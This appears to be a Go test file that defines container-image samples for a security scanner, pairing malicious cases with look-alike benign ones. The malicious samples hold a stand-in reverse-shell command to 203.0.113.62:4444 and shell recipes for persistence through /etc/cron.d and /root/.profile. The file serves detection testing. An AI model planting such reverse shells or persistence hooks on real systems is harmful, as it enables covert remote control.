package samples

// passes is what shows only when an image is run more than once, or what it
// left behind is run, and what looks alike and is well meant.
func passes() []Sample {
	const callHome = "exec /bin/actor reverse-shell 203.0.113.62:4444\n"
	job := func(text string) Spec {
		s := script("mkdir -p /etc/cron.d\necho '*/5 * * * * root /usr/local/bin/maintenance --all' > /etc/cron.d/maintenance\necho ready\n")
		s.Files["/usr/local/bin/maintenance"] = "#!/bin/sh\n" + text
		return s
	}
	profile := script("echo '[ -x /usr/local/bin/motd ] && /usr/local/bin/motd' >> /root/.profile\nexec /bin/actor webserver 8080\n")
	profile.Files["/usr/local/bin/motd"] = "#!/bin/sh\n" + callHome
	first := "if [ -e /srv/app/.ready ]; then\n"
	second := "fi\nmkdir -p /srv/app\necho done > /srv/app/.ready\necho initialised\n"
	asks := ": \"${DB_PASSWORD:?must be set}\"\n"
	list := []Sample{
		shows("reverse-shell/asks-for-a-password", script(asks+callHome), malicious, "203.0.113.62:4444"),
		nearly("reverse-shell/database", script(asks+"exec /bin/actor webserver 5432\n")).verdict(clean...),
		shows("reverse-shell/second-start", script(first+callHome+second), malicious, "203.0.113.62:4444"),
		nearly("reverse-shell/initialised-once", script(first+"exec /bin/actor webserver 8080\n"+second)).verdict(clean...),
		shows("reverse-shell/by-cron", job(callHome), malicious, "203.0.113.62:4444").but("cron-persistence", "/etc/cron.d/maintenance"),
		shows("reverse-shell/at-login", profile, malicious, "203.0.113.62:4444").but("init-persistence", "/root/.profile"),
		nearly("reverse-shell/backup-by-cron", job("cp /etc/hostname /srv/backup\n")),
	}
	for i := range list {
		list[i].Profile = "standard"
	}
	return list
}
